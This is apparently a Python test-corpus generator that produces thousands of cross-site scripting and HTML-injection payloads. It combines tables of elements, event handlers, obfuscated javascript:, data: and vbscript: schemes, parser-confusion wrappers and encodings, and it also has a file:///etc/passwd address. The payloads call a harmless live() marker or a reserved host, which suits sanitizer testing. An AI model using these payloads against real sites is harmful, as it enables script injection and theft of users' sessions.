"""Some thousands of texts that try to get something live into a page; the same ones, in the same order, at each call.

They are the products of tables: elements × handlers × ways of writing an attribute, elements × addresses × ways of
hiding a scheme, and wrappings that readers of Markdown, HTML and XML may end in different places. Each would call
``live(N)`` with its own number, or ask the host ``live.invalid`` for something.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator, Sequence
from itertools import product
from typing import Any

HOST = "https://live.invalid"
_CODE = "live()"

_ELEMENTS = (
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
    "select autofocus",
    "textarea autofocus",
    "video><source",
    "a href=x",
    "p",
    "b",
    "sub",
    "abbr title=x",
    "br",
    "math",
    "style",
    "link rel=stylesheet href=x",
    "form",
    "button autofocus",
    "table",
    "custom-element",
    "div contenteditable",
    "embed src=x",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onclick",
    "onmouseover",
    "onanimationstart",
    "OnBegin",
)
_ATTRIBUTES = (
    '{e} {h}="{c}"',
    "{e} {h}='{c}'",
    "{e} {h}={c}",
    "{e}/{h}={c}",
    "{e}\t{h} = {c}",
    '{e} x="y"{h}="{c}"',
    "{e} {h}=`{c}`",
    '{e} "{h}={c}',
    "{e} x='>' {h}={c}",
    "{e} {h}=&#108;ive&lpar;&rpar;",
    '{e} title="&quot;>" {h}="{c}"',
    "{e} x=1 {h}\x0c={c}",
)
_ENDS = (
    ">",
    "/>",
    ">x</{n}>",
    " ",
)

_CARRIERS = (
    '<a href="{u}">x</a>',
    "<a href={u}>x</a>",
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<base href="{u}">',
    '<link rel="stylesheet" href="{u}">',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    '<img src="{u}">',
    '<svg><use href="{u}"/></svg>',
    '<svg><image href="{u}"/></svg>',
    '<svg><script href="{u}"/></svg>',
    '<script src="{u}"></script>',
    '<p style="background:url({u})">x</p>',
    "<style>@import '{u}';</style>",
    '<math href="{u}">x</math>',
    "[x]({u})",
    "[x](<{u}>)",
    "![x]({u})",
    "<{u}>",
    '[x]({u} "t")',
    '[x]{{href="{u}"}}',
    '[x](#a){{href="{u}"}}',
    "&lt;a href={u}&gt;",
    '<svg><set attributeName="href" to="{u}"/></svg>',
    '<video poster="{u}">',
    '<a ping="{u}" href="#a">x</a>',
    '<table background="{u}">',
)
_ADDRESSES = (
    "javascript:live()",
    "JaVaScRiPt:live()",
    "java&#115;cript:live()",
    "java&#x73cript:live()",
    "java\tscript:live()",
    "java&Tab;script:live()",
    "java&NewLine;script:live()",
    "&#1;javascript:live()",
    " javascript:live()",
    "javascript&colon;live()",
    "javascript:%6cive()",
    "javascript://%0alive()",
    "vbscript:live()",
    "data:text/html,<script>live()</script>",
    "data:text/html;base64,PHNjcmlwdD5saXZlKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=live()>",
    f"{HOST}/x",
    "//live.invalid/x",
    "\\\\live.invalid\\x",
    "file:///etc/passwd",
    "blob:x",
    "ja&#118;&#97;script:live()",
    "\u0001javascript:live()",
    "livescript:live()",
)

_WRAPPINGS = (
    "{x}",
    "\\`{x}\\`",
    "``{x}`",
    "`{x}",
    "<!--{x}",
    "<!-->{x}-->",
    "<!--->{x}-->",
    "<!-- -- >{x}",
    "<!--\\-->{x}",
    "<![CDATA[{x}]]>",
    "<?x {x} ?>",
    "<!x {x} >",
    "&lt;x {x}",
    '<abbr title="{x}">y</abbr>',
    "<abbr title='{x}'>y</abbr>",
    '<abbr title="`">{x}`</abbr>',
    "<sub>{x}</sub>",
    "<kbd {x}",
    "**{x}**",
    "*`*{x}`",
    "[{x}](#a)",
    "[y](#a '{x}')",
    "![{x}](y)",
    '[y]{{lang="{x}"}}',
    "{{{{{x}}}}}",
    '{{#a title="{x}"}}',
    "\\<{x}",
    "\\\\{x}",
    "&#60;{x}",
    "<svg><title>{x}</title></svg>",
    "<math><mi>{x}</mi></math>",
    "<noscript><p title='</noscript>{x}'>",
    "<textarea>{x}",
    "<title>{x}",
    "<style><!--</style>{x}",
    "<template>{x}</template>",
    "<xmp>{x}</xmp>",
    "<svg><style><img title='</style>{x}'>",
    '<p title="<!--">{x}',
    "</p></section>{x}",
    "<https://x/{x}>",
    "a|{x}|b",
    "<table><td>{x}",
    "<form><math><mtext></form><form><mglyph><style></math>{x}",
)
_CORES = (
    "<script>live()</script>",
    "<SCRIPT>live()</SCRIPT>",
    "<script/x>live()</script>",
    "<scr<script>ipt>live()</script>",
    "<img src=x onerror=live()>",
    '<img src="x" onerror="live()"/>',
    "<svg onload=live()>",
    "<svg/onload=live()>",
    "<svg><script>live()</script></svg>",
    "<iframe srcdoc='<script>parent.live()</script>'>",
    "<body onload=live()>",
    "<svg><animate onbegin=live() attributeName=x dur=1s>",
    f"<script src={HOST}/x></script>",
    f"<img src={HOST}/x>",
    f"<link rel=stylesheet href={HOST}/x>",
    f"<meta http-equiv=refresh content=0;url={HOST}>",
    "<a href=javascript:live()>x</a>",
    "<input autofocus onfocus=live()>",
    "<details open ontoggle=live()>x</details>",
    '" onclick="live()" x="',
    "' onclick='live()' x='",
    "--><script>live()</script>",
    "]]><script>live()</script>",
    "<img src=x onerror=live() //",
    "<!ENTITY x 'y'>&x;",
)


_ENCODINGS: tuple[Callable[[str], str], ...] = (
    html.escape,
    lambda core: "".join(f"&#{ord(letter)};" for letter in core),
    lambda core: "".join(f"\\{letter}" if letter in "<>\"'&" else letter for letter in core),
)


def _handled(element: str, handler: str, attribute: str, end: str) -> str:
    return f"<{attribute.format(e=element, h=handler, c=_CODE)}{end.format(n=element.split()[0])}"


def _addressed(carrier: str, address: str) -> str:
    return carrier.format(u=address)


def _wrapped(wrapping: str, core: str) -> str:
    return wrapping.format(x=core)


def _encoded(encoding: Callable[[str], str], core: str) -> str:
    return encoding(core)


# What makes payloads, and the tables that it takes them from: the dimensions.
FAMILIES: tuple[tuple[Callable[..., str], tuple[Sequence[Any], ...]], ...] = (
    (_handled, (_ELEMENTS, _HANDLERS, _ATTRIBUTES, _ENDS)),
    (_addressed, (_CARRIERS, _ADDRESSES)),
    (_wrapped, (_WRAPPINGS, _CORES)),
    (_encoded, (_ENCODINGS, _CORES)),
)


def payloads() -> Iterator[str]:
    """All of them: each value of a dimension with each of the others, but for the ends of elements, which alternate."""
    for number, (element, handler, attribute) in enumerate(product(_ELEMENTS, _HANDLERS, _ATTRIBUTES)):
        yield _handled(element, handler, attribute, _ENDS[(number + number // len(_ATTRIBUTES)) % len(_ENDS)])
    for make, dimensions in FAMILIES[1:]:
        for values in product(*dimensions):
            yield make(*values)


def combinations(place: int) -> Iterator[tuple[Callable[..., str], tuple[Any, ...]]]:
    """As few makers and values as have every value of every dimension; others for each number of a ``place``."""
    for make, dimensions in FAMILIES:
        for number in range(max(map(len, dimensions))):
            yield make, tuple(values[(number + place * turn) % len(values)] for turn, values in enumerate(dimensions))


def sample(place: int) -> list[str]:
    """A payload of each of these."""
    return [make(*values) for make, values in combinations(place)]
